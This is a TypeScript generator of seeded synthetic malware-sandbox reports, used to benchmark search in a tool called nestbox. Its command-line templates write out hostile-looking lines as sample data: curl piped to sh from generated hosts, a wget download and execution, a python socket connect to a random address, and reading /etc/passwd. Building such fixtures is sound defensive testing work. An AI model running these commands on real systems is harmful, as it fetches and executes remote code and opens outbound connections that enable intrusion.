import { techniquesOf } from '../src/signatures/attack.js';
import { SIGNATURES } from '../src/signatures/index.js';

/**
 * Synthetic reports for search benchmarks, shaped as nestbox writes them (report-types.ts) and about as
 * full as real ones: a sample with its hashes, a few dropped files, DNS lookups, HTTP requests and
 * contacted hosts drawn from a shared pool (so that analyses share domains, as campaigns do), a handful
 * of processes with command lines, and matches of nestbox's own signatures with their techniques.
 * Seeded: the same seed gives the same reports.
 */

export type Random = () => number;

/** mulberry32: small, fast and good enough to draw test data. */
export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = ['update', 'cdn', 'api', 'mail', 'secure', 'login', 'static', 'files', 'cloud', 'node', 'sync', 'panel', 'gate', 'track', 'img', 'dl'];
const TLDS = ['com', 'net', 'org', 'ru', 'info', 'xyz', 'top', 'io'];
const NAMES = ['invoice', 'payload', 'update', 'kworker', 'dbus-helper', 'sshd', 'miner', 'bot', 'loader', 'agent', 'setup', 'report'];
const EXTENSIONS = ['sh', 'elf', 'bin', 'py', 'pl', 'so', 'x86_64', 'arm7'];
const SIGNATURE_INFOS = SIGNATURES.map((Signature) => new Signature().info);

export class SyntheticReports {
  readonly #random: Random;
  readonly #domains: string[];
  readonly #addresses: string[];

  constructor(seed = 12) {
    this.#random = seededRandom(seed);
    this.#domains = Array.from({ length: 5000 }, (_, index) => this.#domain(index));
    this.#addresses = Array.from({ length: 5000 }, () => this.#address());
  }

  report(id: number): Record<string, unknown> {
    const url = this.#random() < 0.15;
    const domains = this.#some(this.#domains, 0, 8);
    const addresses = this.#some(this.#addresses, 1, 6);
    const name = this.#fileName();
    const processes = Array.from({ length: this.#int(2, 12) }, (_, index) => ({
      type: 'process', pid: 100 + index, ppid: 99 + index, process_name: name, process_path: `/tmp/${name}`,
      command_line: this.#commandLine(name, domains, addresses), first_seen: 1700000000 + index, track: true, modules: [], calls: [],
    }));
    return {
      info: { id, score: Math.round(this.#random() * 100) / 10, category: url ? 'url' : 'file' },
      target: url ? { category: 'url', url: `http://${this.#pick(this.#domains)}/${this.#pick(WORDS)}/index.php` } : { category: 'file', file: this.#file(name) },
      ...(this.#random() < 0.3 ? { static: { pe_imphash: this.#hex(32) } } : {}),
      dropped: Array.from({ length: this.#int(0, 6) }, () => ({ ...this.#file(this.#fileName()), filepath: `/tmp/.${this.#pick(WORDS)}/${this.#fileName()}`, pids: [100] })),
      network: {
        hosts: addresses,
        domains: domains.map((domain, index) => ({ domain, ip: addresses[index % addresses.length] })),
        dns: domains.map((domain, index) => ({ request: domain, type: 'A', answers: [{ type: 'A', data: addresses[index % addresses.length] }] })),
        http: domains.slice(0, 3).map((host) => ({ host, port: 80, uri: `http://${host}/${this.#pick(WORDS)}/${this.#hex(6)}.php?id=${this.#int(1, 9999)}`, method: 'GET' })),
        tls: [],
      },
      behavior: {
        processes,
        summary: { command_line: processes.map((process) => process.command_line), ...(this.#random() < 0.2 ? { mutex: [`Global\\${this.#pick(NAMES)}-${this.#hex(8)}`] } : {}) },
      },
      signatures: this.#some(SIGNATURE_INFOS, 0, 7).map((info) => ({ name: info.name, severity: info.severity, ttp: techniquesOf(info.ttp), marks: [] })),
    };
  }

  #file(name: string): Record<string, unknown> {
    return { name, size: this.#int(100, 5_000_000), md5: this.#hex(32), sha1: this.#hex(40), sha256: this.#hex(64), sha512: this.#hex(128), ssdeep: this.#ssdeep(), type: 'ELF 64-bit LSB executable', yara: [], urls: [] };
  }

  #commandLine(name: string, domains: string[], addresses: string[]): string {
    const host = domains.length > 0 ? this.#pick(domains) : this.#pick(addresses);
    const templates = [
      () => `/bin/sh -c "curl -s http://${host}/${this.#pick(WORDS)}.sh | sh"`,
      () => `wget -q -O /tmp/${name} http://${this.#pick(addresses)}/${this.#pick(WORDS)}/${name}`,
      () => `chmod +x /tmp/${name}`,
      () => `/tmp/${name} --daemon --id ${this.#hex(8)}`,
      () => `python3 -c "import socket,os;s=socket.socket();s.connect(('${this.#pick(addresses)}',${this.#int(1024, 65535)}))"`,
      () => `crontab -l`,
      () => `cat /etc/passwd`,
      () => `nohup /tmp/.${this.#pick(WORDS)}/${name} -c ${host}:${this.#int(80, 9000)} &`,
      () => `uname -a`,
    ];
    return this.#pick(templates)();
  }

  #domain(index: number): string {
    const label = `${this.#pick(WORDS)}-${this.#pick(WORDS)}${index}`;
    return this.#random() < 0.5 ? `${this.#pick(WORDS)}.${label}.${this.#pick(TLDS)}` : `${label}.${this.#pick(TLDS)}`;
  }

  #address(): string {
    return [this.#int(1, 223), this.#int(0, 255), this.#int(0, 255), this.#int(1, 254)].join('.');
  }

  #fileName(): string {
    return `${this.#pick(NAMES)}_${this.#int(1, 99_999)}.${this.#pick(EXTENSIONS)}`;
  }

  #ssdeep(): string {
    const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    const part = (length: number) => Array.from({ length }, () => chars[this.#int(0, 63)]).join('');
    return `${this.#pick([96, 192, 384, 768, 1536])}:${part(this.#int(20, 60))}:${part(this.#int(10, 30))}`;
  }

  #hex(length: number): string {
    let text = '';
    while (text.length < length) text += Math.floor(this.#random() * 2 ** 32).toString(16).padStart(8, '0');
    return text.slice(0, length);
  }

  #int(min: number, max: number): number {
    return min + Math.floor(this.#random() * (max - min + 1));
  }

  #pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.#random() * items.length)]!;
  }

  #some<T>(items: readonly T[], min: number, max: number): T[] {
    return [...new Set(Array.from({ length: this.#int(min, max) }, () => this.#pick(items)))];
  }
}
